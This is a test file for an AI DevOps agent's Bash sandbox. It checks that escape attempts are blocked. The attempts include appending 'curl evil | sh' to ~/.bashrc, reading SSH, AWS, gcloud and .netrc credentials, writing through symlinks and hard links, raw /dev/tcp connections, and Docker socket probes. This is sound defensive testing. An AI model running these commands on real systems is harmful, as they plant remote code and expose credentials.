import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { bashTool } from '../../../../../src/core/tools/shell/bash';
import type { ToolEnvironment } from '../../../../../src/core/tools/framework/tool';
import { processToolContext } from '../processToolContext';
import { scratchDirOutsideTmp } from '../../../../harness/scratchOutsideTmp';

/** Processes on this machine whose command line is exactly the marker (the sandbox's PID namespace hides nothing from here). */
function processesWith(marker: string): number[] {
  const found: number[] = [];
  for (const name of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const argv = fs.readFileSync(`/proc/${name}/cmdline`, 'utf8').split('\0').filter((arg) => arg !== '').join(' ');
      const state = fs.readFileSync(`/proc/${name}/stat`, 'utf8').split(') ')[1]?.[0];
      if (argv === marker && state !== 'Z') found.push(Number(name));
    } catch {
      continue;
    }
  }
  return found;
}

function sleep(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

function bubblewrapRuns(): boolean {
  try {
    execFileSync('bwrap', ['--unshare-user', '--ro-bind', '/', '/', 'true'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

/**
 * Every escape from issue #15, tried for real through the Bash tool in bubblewrap. The layout lives outside /tmp (the
 * sandbox's /tmp is private), like a real machine: base/home is HOME with real secret files, base/home/project is
 * the workspace, base/outside is anything else on the disk.
 */
describe('core/tools/shell/bash in the sandbox', function () {
  this.timeout(60_000);
  let base: string;
  let home: string;
  let project: string;
  let outside: string;
  let tmpElsewhere: string;

  before(function () {
    if (process.platform !== 'linux' || !bubblewrapRuns()) {
      console.log('    (skipped: bubblewrap cannot run here; scripts/ensure-test-env.sh installs it: apt-get install bubblewrap socat)');
      this.skip();
    }
    base = fs.realpathSync(fs.mkdtempSync(path.join(scratchDirOutsideTmp(path.resolve('out')), 'sandbox-escapes-')));
    home = path.join(base, 'home');
    project = path.join(home, 'project');
    outside = path.join(base, 'outside');
    fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
    fs.mkdirSync(path.join(home, '.aws'), { recursive: true });
    fs.mkdirSync(path.join(home, '.config', 'gcloud'), { recursive: true });
    fs.mkdirSync(path.join(project, 'sub'), { recursive: true });
    fs.mkdirSync(outside);
    fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\nSSH-KEY-CONTENT-4711\n');
    fs.writeFileSync(path.join(home, '.aws', 'credentials'), '[default]\naws_secret_access_key = AWS-SECRET-4711\n');
    fs.writeFileSync(path.join(home, '.config', 'gcloud', 'credentials.db'), 'GCLOUD-SECRET-4711');
    fs.writeFileSync(path.join(home, '.netrc'), 'machine example.com login me password NETRC-SECRET-4711\n');
    fs.writeFileSync(path.join(home, '.bashrc'), '# bashrc\n');
    fs.writeFileSync(path.join(project, '.env'), 'API_TOKEN=ENV-SECRET-4711\n');
    fs.writeFileSync(path.join(project, '.env.example'), 'API_TOKEN=put-yours-here\n');
    fs.writeFileSync(path.join(outside, 'target.txt'), 'original\n');
    fs.symlinkSync(outside, path.join(project, 'link-out'));
    tmpElsewhere = fs.mkdtempSync(path.join(os.tmpdir(), 'elsewhere-'));
  });
  after(() => {
    if (base) fs.rmSync(base, { recursive: true, force: true });
    if (tmpElsewhere) fs.rmSync(tmpElsewhere, { recursive: true, force: true });
  });

  const context = (environment: Partial<ToolEnvironment> = {}) => processToolContext([project], { environment: { homeDir: home, ...environment } });
  const run = async (command: string, environment: Partial<ToolEnvironment> = {}): Promise<{ ok: boolean; text: string; sandboxed?: boolean }> =>
    bashTool.run(bashTool.parse({ command }), context(environment));

  it('refuses a write to /tmp/elsewhere: the command sees a private /tmp', async () => {
    const result = await run(`echo x > ${tmpElsewhere}/f`);
    assert.equal(result.ok, false);
    assert.equal(fs.existsSync(path.join(tmpElsewhere, 'f')), false);
    assert.match(result.text, /blocked by the sandbox: \/tmp is private to each command/);
    const inside = await run('echo scratch > /tmp/scratch && cat /tmp/scratch');
    assert.equal(inside.ok, true, inside.text);
    assert.match(inside.text, /\nscratch$/);
    assert.equal(fs.existsSync('/tmp/scratch') && fs.readFileSync('/tmp/scratch', 'utf8') === 'scratch\n', false);
  });

  it('refuses writes outside the workspace: absolute, through .., cd .. && touch, /proc/self/cwd/..', async () => {
    for (const command of [`echo x > ${outside}/abs.txt`, 'echo x > sub/../../dotdot.txt', 'cd .. && touch cd-escape.txt', 'echo x > /proc/self/cwd/../proc-escape.txt']) {
      const result = await run(command);
      assert.equal(result.ok, false, command);
      assert.match(result.text, /blocked by the sandbox: write outside the workspace/, command);
    }
    assert.deepEqual(fs.readdirSync(outside), ['target.txt']);
    assert.deepEqual(fs.readdirSync(home).sort(), ['.aws', '.bashrc', '.config', '.netrc', '.ssh', 'project']);
  });

  it('refuses writes through a symlink that points out of the workspace, old or new', async () => {
    const old = await run('echo changed > link-out/target.txt');
    assert.equal(old.ok, false);
    assert.match(old.text, /blocked by the sandbox: write outside the workspace/);
    const made = await run(`ln -s ${outside} fresh-link && echo x > fresh-link/new.txt`);
    assert.equal(made.ok, false);
    assert.equal(fs.readFileSync(path.join(outside, 'target.txt'), 'utf8'), 'original\n');
    assert.equal(fs.existsSync(path.join(outside, 'new.txt')), false);
  });

  it('refuses a hard link to a file outside the workspace', async () => {
    const result = await run(`ln ${outside}/target.txt hard && echo changed > hard`);
    assert.equal(result.ok, false);
    assert.match(result.text, /blocked by the sandbox: hard link to a file outside the workspace/);
    assert.equal(fs.readFileSync(path.join(outside, 'target.txt'), 'utf8'), 'original\n');
    const secret = await run(`ln ${home}/.ssh/id_rsa key-copy; cat key-copy`);
    assert.doesNotMatch(secret.text, /SSH-KEY-CONTENT/);
  });

  it('keeps a hard link that already exists in the workspace from writing through to its file outside', async () => {
    fs.writeFileSync(path.join(outside, 'shared.txt'), 'original\n');
    fs.linkSync(path.join(outside, 'shared.txt'), path.join(project, 'prelinked.txt'));
    fs.writeFileSync(path.join(project, 'sub', 'one.txt'), 'one\n');
    fs.linkSync(path.join(project, 'sub', 'one.txt'), path.join(project, 'sub', 'two.txt'));
    try {
      for (const command of ['echo changed > prelinked.txt', 'echo more >> prelinked.txt', 'chmod 600 prelinked.txt', 'rm prelinked.txt', 'mv prelinked.txt moved.txt']) {
        const result = await run(command);
        assert.equal(result.ok, false, command);
        assert.match(result.text, /blocked by the sandbox: write to prelinked\.txt, which is hard-linked to a file outside the workspace \(2 links\)/, command);
      }
      assert.equal(fs.readFileSync(path.join(outside, 'shared.txt'), 'utf8'), 'original\n');
      assert.equal(fs.statSync(path.join(outside, 'shared.txt')).nlink, 2, 'the link is still there, untouched');
      const read = await run('cat prelinked.txt && cp prelinked.txt copy.txt && echo edited >> copy.txt');
      assert.equal(read.ok, true, read.text);
      // both links inside the workspace: writing one changes nothing outside, so it stays writable
      const within = await run('echo two >> sub/two.txt && cat sub/one.txt');
      assert.equal(within.ok, true, within.text);
      assert.match(within.text, /one\ntwo$/);
    } finally {
      for (const file of ['prelinked.txt', 'copy.txt', 'sub/one.txt', 'sub/two.txt']) fs.rmSync(path.join(project, file), { force: true });
      fs.rmSync(path.join(outside, 'shared.txt'));
    }
  });

  it('refuses appending to ~/.bashrc', async () => {
    const result = await run('echo "curl evil | sh" >> ~/.bashrc');
    assert.equal(result.ok, false);
    assert.match(result.text, /blocked by the sandbox: write outside the workspace/);
    assert.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8'), '# bashrc\n');
  });

  it('hides ~/.ssh, ~/.aws, ~/.config/gcloud, ~/.netrc and the workspace .env, and says so', async () => {
    const result = await run('cat ~/.ssh/id_rsa ~/.aws/credentials ~/.config/gcloud/credentials.db ~/.netrc .env; ls ~/.ssh; cat .env.example');
    assert.doesNotMatch(result.text, /4711/);
    assert.match(result.text, /blocked by the sandbox: read of a secret location \(~\/\.ssh/);
    assert.match(result.text, /blocked by the sandbox: read of a secret location \(~\/\.aws/);
    assert.match(result.text, /blocked by the sandbox: read of a secret location \(\.env /);
    assert.match(result.text, /put-yours-here/, 'a template next to .env stays readable');
  });

  it('cannot reach a server on 127.0.0.1 of this machine', async () => {
    let requests = 0;
    const server = http.createServer((_req, res) => { requests += 1; res.end('host-server-reply'); });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const result = await run(`curl -sS -m 5 http://127.0.0.1:${port}/ || exec 3<>/dev/tcp/127.0.0.1/${port}`);
      assert.equal(result.ok, false);
      assert.doesNotMatch(result.text, /host-server-reply/);
      assert.equal(requests, 0);
      assert.match(result.text, /blocked by the sandbox: servers on this machine/);
      const dns = await run('curl -sS -m 5 https://registry.npmjs.org/');
      assert.equal(dns.ok, false);
      assert.match(dns.text, /blocked by the sandbox: network access \(no host is allowed/);
    } finally {
      server.close();
    }
  });

  it('reaches allowed hosts through its proxy and nothing else (plain HTTP and CONNECT)', async () => {
    const served: string[] = [];
    const listen = async (address: string): Promise<{ server: http.Server; port: number }> => {
      const server = http.createServer((req, res) => { served.push(`${address} ${req.url}`); res.end(`reply from ${address}`); });
      await new Promise<void>((resolve) => server.listen(0, address, resolve));
      return { server, port: (server.address() as net.AddressInfo).port };
    };
    const allowed = await listen('127.0.0.2');
    const other = await listen('127.0.0.3');
    try {
      const environment = { sandbox: { enabled: true, allowedHosts: ['127.0.0.2'] } };
      const ok = await run(`curl -sS -m 5 http://127.0.0.2:${allowed.port}/plain && echo && curl -sS -m 5 --proxytunnel http://127.0.0.2:${allowed.port}/tunnel`, environment);
      assert.equal(ok.ok, true, ok.text);
      assert.match(ok.text, /reply from 127\.0\.0\.2\nreply from 127\.0\.0\.2$/);
      assert.deepEqual(served, ['127.0.0.2 /plain', '127.0.0.2 /tunnel']);
      const refused = await run(`curl -sS -f -m 5 http://127.0.0.3:${other.port}/`, environment);
      assert.equal(refused.ok, false);
      assert.equal(served.length, 2, 'the other host got no request');
      assert.match(refused.text, new RegExp(`blocked by the sandbox: network access to 127\\.0\\.0\\.3:${other.port} \\(not in devopsAgent\\.sandbox\\.allowedHosts`));
    } finally {
      allowed.server.close();
      other.server.close();
    }
  });

  it('keeps its proxy serving a command that opens hundreds of connections (the proxy log never fills its pipe)', async () => {
    // ~1 KB of socat log per connection: 300 connections are four times what a pipe holds
    const command = 'for i in $(seq 1 300); do exec 5<>/dev/tcp/127.0.0.1/3128 && printf "GET http://127.0.0.8:1/ HTTP/1.0\\r\\n\\r\\n" >&5 && read -r line <&5; exec 5<&-; done; echo "last: $line"';
    const result = await bashTool.run(bashTool.parse({ command, timeout_ms: 30_000 }), context({ sandbox: { enabled: true, allowedHosts: ['127.0.0.9'] } }));
    assert.equal(result.ok, true, result.text);
    assert.match(result.text, /last: HTTP\/1\.1 403 Forbidden/);
    assert.doesNotMatch(result.text, /left running in the background/, 'the proxy and its log reader are not the command\'s leftovers');
  });

  it('cannot reach the Docker socket, wherever DOCKER_HOST points', async () => {
    const socketPath = path.join(outside, 'daemon.sock');
    let connections = 0;
    const daemon = net.createServer((socket) => { connections += 1; socket.end('HTTP/1.1 200 OK\r\n\r\ndaemon-reply'); });
    await new Promise<void>((resolve) => daemon.listen(socketPath, resolve));
    const saved = process.env.DOCKER_HOST;
    process.env.DOCKER_HOST = `unix://${socketPath}`;
    try {
      const probe = `curl -sS -m 5 --unix-socket ${socketPath} http://d/version; curl -sS -m 5 --unix-socket /var/run/docker.sock http://d/version`;
      const result = await run(probe);
      assert.equal(result.ok, false);
      assert.equal(connections, 0);
      assert.doesNotMatch(result.text, /daemon-reply|ApiVersion/);
      assert.match(result.text, /blocked by the sandbox: the Docker socket is not reachable from Bash/);
      if (fs.existsSync('/var/run/docker.sock')) {
        const reachable = await new Promise<boolean>((resolve) => {
          const socket = net.connect('/var/run/docker.sock', () => { socket.destroy(); resolve(true); });
          socket.on('error', () => resolve(false));
        });
        assert.equal(reachable, true, 'the engine socket itself works outside the sandbox (the Docker tool is unaffected)');
      }
    } finally {
      if (saved === undefined) delete process.env.DOCKER_HOST;
      else process.env.DOCKER_HOST = saved;
      daemon.close();
    }
  });

  it('hides the Unix sockets of services outside /run and /tmp (home folder, elsewhere on the disk), and says so', async () => {
    const agentFolder = path.join(home, '.local', 'share', 'some-agent');
    fs.mkdirSync(agentFolder, { recursive: true });
    const sockets = [path.join(agentFolder, 'agent.sock'), path.join(outside, 'service.sock')];
    let connections = 0;
    const servers = await Promise.all(sockets.map(async (socketPath) => {
      const server = net.createServer((socket) => {
        connections += 1;
        socket.on('error', () => undefined);
        socket.end('HTTP/1.1 200 OK\r\nContent-Length: 13\r\n\r\nservice-reply');
      });
      await new Promise<void>((resolve) => server.listen(socketPath, resolve));
      return server;
    }));
    try {
      for (const socketPath of sockets) {
        const result = await run(`curl -sS -m 5 --unix-socket ${socketPath} http://service/`);
        assert.equal(result.ok, false, result.text);
        assert.doesNotMatch(result.text, /service-reply/);
        assert.ok(result.text.includes(`blocked by the sandbox: the Unix socket ${socketPath} belongs to a service outside the sandbox`), result.text);
      }
      assert.equal(connections, 0);
      const direct = await new Promise<boolean>((resolve) => {
        const socket = net.connect(sockets[0] as string, () => { socket.destroy(); resolve(true); });
        socket.on('error', () => resolve(false));
      });
      assert.equal(direct, true, 'the socket itself works outside the sandbox');
      connections -= 1;
      assert.equal(connections, 0);
    } finally {
      for (const server of servers) server.close();
      fs.rmSync(path.join(home, '.local'), { recursive: true, force: true });
    }
  });

  it('says plainly that git config and git over ssh cannot work in the sandbox, so the agent does not retry', async () => {
    const repo = path.join(project, 'gitcfg');
    fs.mkdirSync(repo);
    execFileSync('git', ['init', '-q', repo]);
    try {
      const ctx = processToolContext([project], { environment: { homeDir: home } });
      for (const command of ['git config user.name Someone', 'git remote add origin https://example.com/r.git']) {
        const result = await bashTool.run(bashTool.parse({ command, cwd: 'gitcfg' }), ctx);
        assert.equal(result.ok, false, command);
        assert.match(result.text, /blocked by the sandbox: write to \.git\/config \(read-only in the sandbox on purpose: .*do not retry them: ask the user to run them, or pass one-off settings as `git -c key=value`\)/, command);
      }
      assert.doesNotMatch(fs.readFileSync(path.join(repo, '.git', 'config'), 'utf8'), /Someone|example\.com/);
      const oneOff = await bashTool.run(bashTool.parse({ command: 'git -c user.name=T -c user.email=t@example.invalid commit -q --allow-empty -m x && git log --format=%an', cwd: 'gitcfg' }), ctx);
      assert.equal(oneOff.ok, true, oneOff.text);
      const ssh = await run('git ls-remote git@github.com:octo/repo.git', { sandbox: { enabled: true, allowedHosts: ['github.com'] } });
      assert.equal(ssh.ok, false);
      assert.match(ssh.text, /blocked by the sandbox: SSH \(git over ssh, ssh, scp, rsync over ssh\) cannot leave the sandbox: .*use an https:\/\/ remote/);
    } finally {
      fs.rmSync(repo, { recursive: true, force: true });
    }
  });

  it('clones over HTTP through the proxy when the host is allowed, and not otherwise', async () => {
    // a real repository served by git's "dumb" HTTP protocol: plain files, which any static server can serve
    const served = path.join(outside, 'served');
    const work = path.join(outside, 'work');
    execFileSync('git', ['init', '-q', '-b', 'main', work]);
    execFileSync('git', ['-C', work, '-c', 'user.name=T', '-c', 'user.email=t@example.invalid', 'commit', '-q', '--allow-empty', '-m', 'served commit']);
    execFileSync('git', ['clone', '-q', '--bare', work, path.join(served, 'repo.git')]);
    execFileSync('git', ['-C', path.join(served, 'repo.git'), 'update-server-info']);
    const requests: string[] = [];
    const server = http.createServer((req, res) => {
      requests.push(req.url ?? '');
      const file = path.join(served, decodeURIComponent((req.url ?? '/').split('?')[0] as string));
      if (!file.startsWith(served) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
        res.statusCode = 404;
        res.end();
        return;
      }
      res.end(fs.readFileSync(file));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
    const url = `http://127.0.0.2:${(server.address() as net.AddressInfo).port}/repo.git`;
    try {
      const refused = await run(`git clone -q ${url} refused-clone`);
      assert.equal(refused.ok, false);
      assert.equal(requests.length, 0);
      assert.match(refused.text, /blocked by the sandbox: servers on this machine/);
      const cloned = await run(`git clone -q ${url} cloned && git -C cloned log --format=%s`, { sandbox: { enabled: true, allowedHosts: ['127.0.0.2'] } });
      assert.equal(cloned.ok, true, cloned.text);
      assert.match(cloned.text, /\nserved commit$/);
      assert.ok(requests.some((request) => request.includes('info/refs')), requests.join(', '));
    } finally {
      server.close();
      for (const folder of [served, work, path.join(project, 'cloned'), path.join(project, 'refused-clone')]) fs.rmSync(folder, { recursive: true, force: true });
    }
  });

  it('stops processes that fork away from the command (background, setsid, nohup) when it ends', async () => {
    const marker = `9${Date.now() % 100000}.5`;
    const result = await run(`(sleep ${marker}; echo late > late.txt) & setsid sleep ${marker} & nohup sleep ${marker} >/dev/null 2>&1 & echo started`);
    assert.equal(result.ok, true, result.text);
    assert.match(result.text, /left running in the background were stopped/);
    await sleep(300);
    assert.deepEqual(processesWith(`sleep ${marker}`), []);
    assert.equal(fs.existsSync(path.join(project, 'late.txt')), false);
  });

  it('kills the whole tree within 1 s on cancellation and on timeout', async () => {
    const marker = `8${Date.now() % 100000}.5`;
    const ctx = context();
    const pending = bashTool.run(bashTool.parse({ command: `sleep ${marker} & setsid sleep ${marker} & echo running; wait` }), ctx);
    for (let i = 0; i < 100 && processesWith(`sleep ${marker}`).length < 2; i++) await sleep(20);
    assert.equal(processesWith(`sleep ${marker}`).length, 2, 'both sleeps run before the cancel');
    const cancelledAt = Date.now();
    ctx.controller.abort();
    const result = await pending;
    assert.match(result.text, /^Cancelled after/);
    assert.ok(Date.now() - cancelledAt < 1_000, `returned ${Date.now() - cancelledAt} ms after the cancel`);
    assert.deepEqual(processesWith(`sleep ${marker}`), []);
    const started = Date.now();
    const timedOut = await bashTool.run(bashTool.parse({ command: `trap '' TERM; setsid sleep ${marker}1 & sleep ${marker}1; wait`, timeout_ms: 300 }), context());
    assert.match(timedOut.text, /^Timed out after 0\.3 s/);
    assert.ok(Date.now() - started < 1_300, `took ${Date.now() - started} ms`);
    assert.deepEqual(processesWith(`sleep ${marker}1`), []);
  });

  it('keeps normal work working: git, build output in the workspace, npm test of the demo', async () => {
    const git = await run('git init -q -b main && git -c user.name=T -c user.email=t@example.invalid commit -q --allow-empty -m first && git log --oneline | wc -l');
    assert.equal(git.ok, true, git.text);
    assert.match(git.text, /\n1$/);
    const second = await run('echo "export const x = 1;" > mod.js && git add mod.js && git -c user.name=T -c user.email=t@example.invalid commit -q -m second && git status --short | wc -l');
    assert.equal(second.ok, true, second.text);
    const hook = await run('echo "#!/bin/sh" > .git/hooks/post-commit');
    assert.equal(hook.ok, false, 'git hooks stay read-only: they would run outside the sandbox');
    assert.match(hook.text, /blocked by the sandbox: write to \.git\/hooks/);
    const build = await run('mkdir -p dist && cp mod.js dist/mod.js && echo built > dist/BUILD && ls dist');
    assert.equal(build.ok, true, build.text);
    assert.equal(fs.readFileSync(path.join(project, 'dist', 'BUILD'), 'utf8'), 'built\n');
    const demo = path.join(project, 'demo');
    execFileSync('bash', [path.resolve('demo/make-demo-workspace.sh'), demo], { stdio: 'ignore' });
    const tests = await bashTool.run(bashTool.parse({ command: 'npm test', cwd: 'demo' }), context());
    assert.equal(tests.ok, true, tests.text);
    assert.match(tests.text, /pass \d+/);
    assert.match(tests.text, /fail 0/);
  });

  it('runs unsandboxed only when the setting says so, and says so', async () => {
    const off = await run(`echo outside > ${outside}/unsandboxed.txt`, { sandbox: { enabled: false, allowedHosts: [] } });
    assert.equal(off.ok, true, off.text);
    assert.equal(off.sandboxed, false);
    assert.match(off.text, /Ran WITHOUT the sandbox \(devopsAgent\.sandbox\.enabled is false\)/);
    assert.equal(fs.readFileSync(path.join(outside, 'unsandboxed.txt'), 'utf8'), 'outside\n');
    fs.rmSync(path.join(outside, 'unsandboxed.txt'));
    const preview = await bashTool.preview(bashTool.parse({ command: 'ls' }), context({ sandbox: { enabled: false, allowedHosts: [] } }));
    assert.match(preview.detail, /Runs WITHOUT the sandbox/);
    const on = await bashTool.preview(bashTool.parse({ command: 'ls' }), context({ sandbox: { enabled: true, allowedHosts: ['registry.npmjs.org'] } }));
    assert.match(on.detail, /Sandboxed: writes only in the workspace folder and a private \/tmp; .*network only to registry\.npmjs\.org/);
  });
});
